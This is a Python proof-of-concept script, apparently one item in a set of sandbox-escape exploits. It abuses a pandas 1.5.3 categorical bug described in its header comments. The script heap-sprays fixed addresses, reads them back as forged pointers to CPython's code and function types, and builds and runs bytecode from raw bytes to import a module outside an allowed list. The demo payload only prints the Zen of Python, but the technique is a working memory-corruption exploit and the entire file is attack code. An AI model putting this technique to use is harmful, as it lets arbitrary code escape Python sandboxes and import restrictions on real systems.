# source: as 016 (pandas 1.5.3 recode_for_categories copy=False share of a 0-category categorical; unchecked take_1d_object_object); the image python3.11 is non-PIE, so the static types code (0x954440) and function (0x94b020) have fixed addresses; CPython 3.11 bytecode RESUME/LOAD_CONST/IMPORT_NAME/RETURN_VALUE
# family: copy=False categorical constructor shares codes of a 0-category categorical -> unchecked take reads sprayed words as object pointers (forged static types) -> code object built from bytes
# goal: forges the classes code and function, builds bytecode for "import this" and runs it: prints the Zen of Python (module outside the list imported, code run from bytes)
import numpy as np
import pandas as pd


def forged(address):
    spray = []
    for _ in range(64):
        arr = np.empty(112, dtype=object)
        spray.append(arr)
        spray.extend(np.full(112, address, dtype=np.int64) for _ in range(4))
    reader = pd.Categorical([None] * 4, categories=pd.Index(arr[112:], dtype=object))
    writer = pd.Categorical(reader, categories=[f"x{i}" for i in range(126)], copy=False)
    writer[:] = ["x118", "x119", "x120", "x121"]
    return np.asarray(reader)[1]


Code = forged(0x954440)
Function = forged(0x94B020)
print("read past 0 categories:", Code, Function, flush=True)
body = bytes([151, 0, 100, 1, 100, 0, 108, 0, 83, 0])
co = Code(0, 0, 0, 0, 2, 3, body, (None, 0), ("this",), (), "s", "s", "s", 1, b"", b"")
mod = Function(co, {})()
print("imported:", mod)
